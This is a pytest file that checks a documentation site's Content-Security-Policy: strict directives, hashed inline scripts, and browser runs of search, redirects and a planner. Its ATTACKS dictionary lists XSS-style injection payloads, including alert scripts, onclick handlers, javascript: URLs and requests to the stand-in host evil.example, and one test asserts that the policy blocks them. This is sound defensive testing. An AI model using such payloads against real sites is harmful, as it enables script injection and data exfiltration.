"""The content security policy: what it forbids, and that the site works under it."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

from playwright.sync_api import TimeoutError as WaitedTooLong

from certguide.site.components.content_security_policy import page_policy, script_policy
from tests.site.building import NewProject
from tests.site.mkdocs_server import serve
from tests.site.page_monitor import PageMonitor
from tests.site.pages import Page, RenderedSite, none
from tests.site.planner.in_browser import add_certification, open_planner
from tests.site.project import CATALOG

DATA = ("application/json", "application/ld+json")
ATTACKS = {
    "a script": "make('script', {textContent: 'alert(1)'})",
    "a script of another site": "make('script', {src: 'https://evil.example/x.js'})",
    "a handler": "put('<button onclick=alert(1)>x</button>').click()",
    "a URL": "put('<a href=javascript:alert(1)>x</a>').click()",
    "a style": "put('<p style=color:red>x</p>')",
    "a picture": "make('img', {src: 'https://evil.example/x.png'})",
    "a frame": "make('iframe', {src: 'about/'})",
    "a request": "fetch('https://evil.example/').catch(() => 0)",
    "another base": "make('base', {href: 'https://evil.example/'})",
    "another form": "put('<form action=https://evil.example/></form>').submit()",
}
TOOLS = """
refused = [];
addEventListener("securitypolicyviolation", (event) => refused.push(event.violatedDirective));
make = (tag, has) => document.body.append(Object.assign(document.createElement(tag), has));
put = (html) => (document.body.insertAdjacentHTML("beforeend", html), document.body.lastElementChild);
"""


def policy_of(page: Page) -> dict[str, list[str]]:
    """Return a page's policy by directive; it is the first element of the head."""
    first = next(iter(next(page.tree.iter("head"))))
    assert first.get("http-equiv") == "Content-Security-Policy", page.url
    directives = [directive.split() for directive in (first.get("content") or "").split(";")]
    return {name: allowed for name, *allowed in directives}


def inline_scripts(page: Page) -> Iterator[Element]:
    return (script for script in page.tree.iter("script") if not script.get("src") and script.get("type") not in DATA)


def test_every_page_has_a_strict_policy(site: RenderedSite) -> None:
    """Every HTML file, redirects and 404.html included, allows the site itself only."""
    allowed = {"'none'", "'self'", "data:"}
    for page in site.all_pages.values():
        policy = policy_of(page)
        assert policy["default-src"] == policy["base-uri"] == ["'none'"], page.url
        assert "form-action" in policy
        none(
            (page.url, name, word)
            for name, words in policy.items()
            for word in words
            if word not in allowed and not word.startswith("'sha256-")
        )
        assert "data:" not in policy.get("script-src", [])


def test_charset_is_within_the_first_1024_bytes(site: RenderedSite) -> None:
    """The policy before it doesn't push the charset out of the first 1024 bytes."""
    none(page.url for page in site.all_pages.values() if '<meta charset="utf-8">' not in page.html[:1024])


def test_pages_have_no_inline_scripts_styles_or_handlers(site: RenderedSite) -> None:
    """No page has a script, style, handler or URL that its policy forbids; only the first paint has a script inline."""
    faults = [(page.url, "scripts") for page in site.all_pages.values() if len(list(inline_scripts(page))) > 1]
    for page in site.all_pages.values():
        sources = policy_of(page).get("script-src", [])
        for script in inline_scripts(page):
            digest = base64.b64encode(hashlib.sha256((script.text or "").encode()).digest()).decode()
            if f"'sha256-{digest}'" not in sources:
                faults.append((page.url, "script", (script.text or "")[:80]))
        for element in page.tree.iter():
            if isinstance(element.tag, str):
                faults += [
                    (page.url, element.tag, name) for name in element.attrib if name == "style" or name.startswith("on")
                ]
                if element.tag == "style":
                    faults.append((page.url, "style"))
                if (element.get("href") or "").strip().lower().startswith("javascript:"):
                    faults.append((page.url, element.tag, "javascript:"))
    none(faults)


def test_data_scripts_are_valid_json(site: RenderedSite) -> None:
    """The content of every data script parses as JSON."""
    for page in site.all_pages.values():
        for script in page.tree.iter("script"):
            if script.get("type") in DATA:
                json.loads(script.text or "")


def test_inline_scripts_are_allowed_only_while_serving() -> None:
    """The script that reloads a served page is allowed while serving, and not in a published page."""
    assert "unsafe" not in page_policy("a()")
    assert page_policy("a()", serving=True).endswith("; script-src 'self' 'unsafe-inline'")


def test_script_hash_depends_on_the_script() -> None:
    """The policy of a redirect changes with its script, and so does that of a page."""
    assert script_policy("a()") != script_policy("b()")
    assert page_policy("a()") != page_policy("b()")


def test_search_and_redirects_cause_no_policy_violation(site: RenderedSite, home: str, window: Any) -> None:
    """Search and redirects cause no violation; `test_browser.py` opens every page and uses its controls."""
    watcher = PageMonitor(window(), home)
    page = watcher.page
    page.goto(home)
    box = page.get_by_role("textbox", name="Search")
    box.click()
    page.locator("script[src*=bundle]").first.wait_for(state="attached")
    page.wait_for_load_state("networkidle")
    box.fill("observer")
    box.press("End")
    page.locator(".md-search-result__link").first.wait_for()
    for redirect in [redirect for redirect in site.all_pages.values() if redirect.redirects][:8]:
        page.goto(home + redirect.url)
        page.locator("article h1").wait_for()
    none(watcher.errors)


def test_plan_works_without_policy_violations(home: str, window: Any) -> None:
    """Adding, downloading, the calendar, the link and printing cause no violation."""
    watcher = PageMonitor(window(accept_downloads=True), home)
    page = watcher.page
    open_planner(page, home)
    page.evaluate("window.print = () => 0")
    add_certification(page, "Sky Practitioner", "2025-06-30")
    for action in ("save", "calendar"):
        with page.expect_download() as download:
            page.locator(f"[data-do={action}]").first.click()
        assert Path(download.value.path()).stat().st_size
    for action in ("link", "print"):
        page.locator(f"[data-do={action}]").first.click()
    none(watcher.errors)


def test_injected_content_is_blocked(home: str, window: Any) -> None:
    """Content injected into a page doesn't run, load or send anything."""
    page = window()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("requestfailed", lambda request: request.failure == "csp" and requests.remove(request.url))
    page.on("dialog", lambda dialog: (requests.append("dialog"), dialog.dismiss()))
    for attack, code in ATTACKS.items():
        page.goto(home)
        page.evaluate(TOOLS)
        page.evaluate(f"() => {{ {code} }}")
        try:
            page.wait_for_function("() => refused.length > 0")
        except WaitedTooLong as error:
            raise AssertionError(f"{attack} is allowed") from error
        assert not [url for url in requests if "evil.example" in url or url == "dialog"], attack


def test_served_page_reloads_after_an_edit(new_project: NewProject, window: Any) -> None:
    """While serving, the page in the browser reloads after an edit."""
    with serve(new_project()) as serving:
        watcher = PageMonitor(window(), serving.url)
        watcher.page.goto(serving.url)
        with serving.edited(CATALOG, "title: Which Vega certification should I get?", "title: Which loom?"):
            watcher.page.get_by_text("Which loom?").first.wait_for(state="attached", timeout=60_000)
        none(fault for fault in watcher.errors if "livereload" not in fault)
